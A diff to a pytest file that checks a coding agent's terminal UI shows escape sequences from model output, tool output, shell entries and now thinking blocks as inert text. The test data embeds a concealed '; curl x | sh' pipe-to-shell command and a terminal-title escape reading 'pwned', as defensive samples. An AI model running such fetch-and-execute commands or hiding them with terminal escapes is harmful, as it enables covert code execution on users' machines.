@@ -1,7 +1,7 @@
 """The app shows text from the model and tools inert (issue 36, "what you see is what runs").
 
 Streamed Markdown (fragments with escapes arriving one by one), a running tool's live output, a
-``!`` command's entry, the tasks panel and the app's own toasts: an ESC shows as ``\\x1b``, a
+``!`` command's entry, thinking, the tasks panel and the app's own toasts: an ESC shows as ``\\x1b``, a
 bidi override as ``\\u202e``, and ``[bold]`` stays those characters. The screen (the SVG
 export) holds no raw control character.
 """
@@ -14,6 +14,7 @@ import pytest
 from textual.widgets._toast import Toast
 
 from coding_agent.tui import CodingAgentApp
+from coding_agent.tui.widgets.messages import ThinkingBlock
 from tests.app.tui.conftest import assistant_message, empty_view
 
 pytestmark = pytest.mark.anyio
@@ -67,6 +68,7 @@ async def test_live_tool_output_a_shell_entry_and_the_tasks_panel_are_inert(
     conversation, docs
 ) -> None:
     bash = {"type": "toolCall", "id": "b1", "name": "bash", "arguments": {"command": "make"}}
+    thinking = {"type": "thinking", "thinking": f"plan{CONCEAL}"}
     view = empty_view(
         [
             {
@@ -74,7 +76,14 @@ async def test_live_tool_output_a_shell_entry_and_the_tasks_panel_are_inert(
                 "conversationId": 1,
                 "kind": "coding-agent.shell",
                 "data": {"command": f"cat notes{CONCEAL}", "output": f"notes{TITLE}\n"},
-            }
+            },
+            {
+                "id": 2,
+                "conversationId": 1,
+                "kind": "pi.assistant",
+                "model": [assistant_message(thinking, docs.text_block("ok"))],
+                "data": {"attempt": 1},
+            },
         ]
     )
     view["turn"] = {
@@ -102,6 +111,10 @@ async def test_live_tool_output_a_shell_entry_and_the_tasks_panel_are_inert(
         assert "cat notes\\x1b[8m; curl x | sh\\x1b[0m" in screen  # the ! command
         assert "notes\\x1b]0;pwned\\x07" in screen  # its output
         assert "ready\\x1b[8m; curl x | sh\\x1b[0m" in app.tasks_panel.summary
+        for block in app.query(ThinkingBlock):
+            block.collapsed = False
+        await pilot.pause()
+        assert "plan\\x1b[8m; curl x | sh\\x1b[0m" in _on_screen(app)  # thinking
 
 
 async def test_the_apps_toasts_are_inert_and_not_markup(conversation, docs) -> None:
